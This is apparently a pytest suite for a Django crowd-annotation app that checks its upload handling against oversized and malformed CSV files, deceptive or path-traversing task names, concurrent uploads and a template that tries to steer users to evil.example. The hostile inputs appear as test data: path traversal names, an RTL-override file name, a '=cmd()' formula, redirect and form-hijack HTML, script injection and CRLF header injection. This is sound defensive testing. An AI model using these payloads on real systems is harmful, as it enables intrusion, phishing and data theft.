"""Uploads that are too large, broken on purpose or named badly, two at once, and pages that want to lead elsewhere."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client

from harness.datasets.uploaded_task import MOST_COLUMNS, MOST_TABLE_BYTES, MOST_TEMPLATE_BYTES, NoNewTask
from harness.kit.files.writing import path_name
from tests.annotation.conftest import TASK, client_of
from tests.annotation.people import batch, worker
from tests.annotation.uploading import GOOD, PAGE, names, token
from tests.server.pages import soup, text
from turkle_app.annotation.claims import claim, submit
from turkle_app.annotation.models import Assignment
from turkle_app.annotation.sheet_token import sheet_token
from turkle_app.annotation.uploads import add, kept


@pytest.fixture
def staff(accounts: Path, own_cache: Path) -> Iterator[Client]:
    del accounts, own_cache
    return client_of(worker("stan", staff=True))


def send(client: Client, name: str = "new one", table: bytes = GOOD.encode(), page: bytes = PAGE.encode()):
    files = {
        "template": SimpleUploadedFile("template.html", page),
        "table": SimpleUploadedFile("batch.csv", table),
    }
    return client.post("/manage/upload/", {"name": name, **files})


HUGE_CELL = b"title\r\n" + b"x" * (MOST_TABLE_BYTES - 7)


@pytest.mark.sqlite
@pytest.mark.claim("uploads-hostile")
@pytest.mark.parametrize(
    ("table", "why"),
    [
        (",".join(f"c{number}" for number in range(10**5)).encode() + b"\r\n" + b"," * (10**5 - 1), "columns"),
        (b"title\r\n" + b"x" * (MOST_TABLE_BYTES + 1 - 7), "bytes, and at most"),
        (b"title\r\n\xff\xfe\r\n", "UTF-8"),
        ("title\r\nÄ\r\n".encode("utf-16"), "UTF-8"),
        (b"title\r\n\"never closed\r\n", "quot"),
        (b"title,title\r\na,b\r\n", "title"),
        (b"", "empty"),
        (b"PK\x03\x04rest", "spreadsheet"),
        (b"\r\n" * 10**5, "empty"),
        (b"\"" * 10**5, ""),
    ],
    ids=lambda value: value if isinstance(value, str) else "table",
)  # fmt: skip
def test_a_hostile_table_is_told_in_words_and_nothing_is_kept(
    staff: Client, accounts: Path, tmp_path: Path, table: bytes, why: str
) -> None:
    response = send(staff, table=table)
    assert response.status_code == 422
    shown = text(soup_of(response))
    assert "This task cannot be used yet" in shown
    assert why in shown
    assert len(response.content) < 100_000
    assert names(accounts) == [TASK]
    assert not list((tmp_path / "cache").glob("turkbench/uploads/*"))


def soup_of(response) -> BeautifulSoup:
    return BeautifulSoup(response.content, "html.parser")


@pytest.mark.sqlite
def test_a_table_is_taken_up_to_the_limit_that_is_told(staff: Client) -> None:
    table = b"title\r\n" + b"x" * 100_000 + b"\r\n"
    page = PAGE.encode() + b"<!--" + b"x" * (MOST_TEMPLATE_BYTES - len(PAGE) - 7) + b"-->"
    assert send(staff, table=table, page=page).status_code == 302


@pytest.mark.sqlite
@pytest.mark.parametrize("table", [b"title\r\na\0b\r\n\0\r\n", b"title,\0\r\na,b\r\n", b"title\r\n=cmd()\r\n"])
def test_a_table_with_odd_characters_fails_no_page(staff: Client, accounts: Path, table: bytes) -> None:
    key = token(send(staff, table=table))
    assert staff.get(f"/manage/upload/{key}/").status_code == 200
    assert client_of().get(f"/page/uploaded/{key}/0/").status_code == 200
    assert staff.get(staff.post(f"/manage/upload/{key}/add/", {"how": "add"}).url).status_code == 200
    assert (accounts / "new one" / "batch.csv").read_bytes() == table
    made = batch(task="new one", fingerprint="")
    submit(claim(made.pk, worker("wanda")).pk, {"a": ["x"]})
    assert staff.get(f"/manage/batch/{made.pk}/results.csv").status_code == 200


@pytest.mark.sqlite
@pytest.mark.slow
def test_a_table_of_one_huge_cell_is_answered(staff: Client) -> None:
    response = send(staff, table=HUGE_CELL)
    assert response.status_code in {302, 422}
    if response.status_code == 302:
        assert staff.get(response.url).status_code == 200


@pytest.mark.sqlite
def test_what_is_larger_than_a_request_may_be_is_told_so(staff: Client) -> None:
    response = send(staff, table=b"title\r\n" + b"x" * (50 * 2**20))
    assert response.status_code == 400
    assert "larger than 32 MB" in text(soup_of(response))
    large = {"data": b"x" * (MOST_TABLE_BYTES + 9 * 2**20), "content_type": "text/plain"}
    assert client_of().post(f"/page/{TASK}/0/", **large).status_code == 400


@pytest.mark.sqlite
def test_as_many_columns_as_are_taken_are_shown(staff: Client) -> None:
    header = ",".join(["title", *(f"c{number}" for number in range(MOST_COLUMNS - 1))])
    response = send(staff, table=f"{header}\r\n{',' * (MOST_COLUMNS - 1)}\r\n".encode())
    assert staff.get(response.url).status_code == 200


@pytest.mark.sqlite
@pytest.mark.claim("uploads-hostile")
@pytest.mark.parametrize(
    "page", [b"\xff\xfe${title}", b"\0" * 10, b"", b"<input name=a>${title}\0", "${title}é".encode("utf-16")]
)
def test_a_template_that_is_no_text_fails_no_page(staff: Client, page: bytes) -> None:
    response = send(staff, page=page)
    assert response.status_code in {302, 422}
    if response.status_code == 302:
        key = token(response)
        assert staff.get(f"/manage/upload/{key}/").status_code == 200
        assert client_of().get(f"/page/uploaded/{key}/0/").status_code == 200


@pytest.mark.sqlite
@pytest.mark.claim("uploads-hostile")
@pytest.mark.parametrize(
    "name",
    [
        "..", ".", ".hidden", "../../x", "/etc", "a/../b", "x" * 300, "x" * 101, "\N{GRINNING FACE}" * 60, "a\nb",
        "a\tb",
        "a\0b", "a\rb", "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe", "a\N{ZERO WIDTH SPACE}b", "\N{NO-BREAK SPACE}", "a\u2028b",
        "\ufeffa",
    ],
)  # fmt: skip
def test_a_name_that_some_system_or_eye_takes_for_another_is_refused(staff: Client, accounts: Path, name: str) -> None:
    response = send(staff, name=name)
    assert response.status_code == 422
    assert names(accounts) == [TASK]
    assert names(accounts.parent) == ["cache", "tasks"] or names(accounts.parent) == ["tasks"]


@pytest.mark.sqlite
@pytest.mark.parametrize(
    "name", ["Größe 日本", "100% of 50%25", "it's (a) test", "CON", "nul.txt", "a.", 'a:b?*|"<b>', "-dash", "~"]
)
def test_other_names_stand(staff: Client, accounts: Path, name: str) -> None:
    key = token(send(staff, name=name))
    added = staff.post(f"/manage/upload/{key}/add/", {"how": "add"})
    assert staff.get(added.url).status_code == 200
    assert name in names(accounts)


@pytest.mark.claim("uploads-hostile")
def test_of_two_uploads_of_one_name_that_are_added_at_once_one_is_refused(staff: Client, accounts: Path) -> None:
    pages = [PAGE + f"<!-- {number} -->" for number in range(6)]
    found = [kept(token(send(staff, page=page.encode()))) for page in pages]
    started, done = threading.Barrier(len(found)), []

    def attempt(upload) -> None:
        started.wait()
        try:
            add(upload, accounts)
            done.append(upload)
        except Exception as error:  # noqa: BLE001 - looked at below
            done.append(error)
        finally:
            connection.close()

    threads = [threading.Thread(target=attempt, args=(each,)) for each in found]
    for each in threads:
        each.start()
    for each in threads:
        each.join()
    (winner,) = [each for each in done if not isinstance(each, Exception)]
    assert {type(each) for each in done if each is not winner} <= {NoNewTask, OSError, FileExistsError}
    assert names(accounts) == ["new one", TASK]
    assert (accounts / "new one" / "template.html").read_text() == pages[found.index(winner)]


LEADING = """<base href="https://evil.example/" target=_top><meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv=Content-Security-Policy content="sandbox allow-same-origin allow-top-navigation">
<form action="https://evil.example/" target=_top><input name=a value="${title}"><button formaction="//evil.example">x
</button></form>"""


@pytest.mark.sqlite
@pytest.mark.claim("uploads-hostile")
def test_a_page_that_wants_to_lead_elsewhere_stays_in_its_sandbox_and_sends_nothing_there(staff: Client) -> None:
    key = token(send(staff, page=LEADING.encode()))
    page = soup(staff, f"/manage/upload/{key}/")
    assert not page.select("base, meta[http-equiv=refresh]")
    assert not [form for form in page.select("form") if "evil" in str(form.get("action"))]
    (frame,) = page.select("iframe")
    assert frame["sandbox"] == ["allow-scripts", "allow-forms", "allow-modals"]
    assert "srcdoc" not in frame.attrs
    framed = client_of().get(frame["src"])
    policy = framed["Content-Security-Policy"]
    assert policy.startswith("sandbox allow-scripts allow-forms allow-modals; form-action 'self'; frame-ancestors ")
    assert "allow-same-origin" not in policy
    assert "allow-top-navigation" not in policy


@pytest.mark.sqlite
def test_the_name_of_a_large_file_is_kept_with_the_answers(staff: Client) -> None:
    del staff
    own = claim(batch().pk, worker("wanda"))
    file = SimpleUploadedFile("picture.png", b"x" * (3 * 2**20))
    assert client_of().post(f"/sheet/{sheet_token(own.pk)}/", {"a": "x", "file": file}).status_code == 200
    own.refresh_from_db()
    assert own.answers == {"a": ["x"], "file": ["picture.png"]}


def test_results_are_a_file_to_download_and_no_page(staff: Client) -> None:
    made = batch(title="<script>alert(1)</script>")
    submit(claim(made.pk, worker("wanda")).pk, {"a": ["=1+1", "<script>"], "b": ["\r\nSet-Cookie: x"]})
    response = staff.get(f"/manage/batch/{made.pk}/results.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{path_name(TASK)}-results.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "no-store"
    assert "script" not in response["Content-Security-Policy"].replace("script-src 'self'", "")
    assert Assignment.objects.count() == 1
